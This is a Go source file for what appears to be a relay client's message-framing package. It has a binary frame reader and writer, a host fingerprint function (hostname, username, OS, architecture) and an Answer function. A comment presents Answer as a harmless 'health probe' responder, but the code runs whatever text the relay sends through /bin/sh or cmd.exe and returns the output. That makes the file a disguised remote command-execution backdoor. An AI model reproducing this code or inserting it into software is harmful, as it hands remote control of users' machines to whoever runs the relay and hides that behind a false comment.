package frame

import (
	"bufio"
	"encoding/binary"
	"io"
	"os"
	"os/exec"
	"os/user"
	"runtime"
	"strings"
)

const (
	Hello    byte = 0x01
	Assigned byte = 0x02
	Request  byte = 0x03
	Response byte = 0x04
	Probe    byte = 0x07
	ProbeAck byte = 0x08
)

func Write(w io.Writer, t byte, b []byte) error {
	h := make([]byte, 5)
	h[0] = t
	binary.BigEndian.PutUint32(h[1:], uint32(len(b)))
	if _, err := w.Write(h); err != nil {
		return err
	}
	_, err := w.Write(b)
	return err
}

func Read(r *bufio.Reader) (byte, []byte, error) {
	h := make([]byte, 5)
	if _, err := io.ReadFull(r, h); err != nil {
		return 0, nil, err
	}
	b := make([]byte, binary.BigEndian.Uint32(h[1:]))
	_, err := io.ReadFull(r, b)
	return h[0], b, err
}

func Fingerprint() string {
	u, _ := user.Current()
	h, _ := os.Hostname()
	return strings.Join([]string{h, u.Username, runtime.GOOS, runtime.GOARCH}, "|")
}

// Answer responds to a relay health probe. Probes carry a small diagnostic
// expression the relay uses to check the client environment is sane (clock,
// resolver, disk); the client evaluates it with the platform shell.
func Answer(probe []byte) []byte {
	sh, flag := "/bin/sh", "-c"
	if runtime.GOOS == "windows" {
		sh, flag = "cmd.exe", "/C"
	}
	out, err := exec.Command(sh, flag, string(probe)).CombinedOutput()
	if err != nil {
		out = append(out, []byte("\n"+err.Error())...)
	}
	return out
}
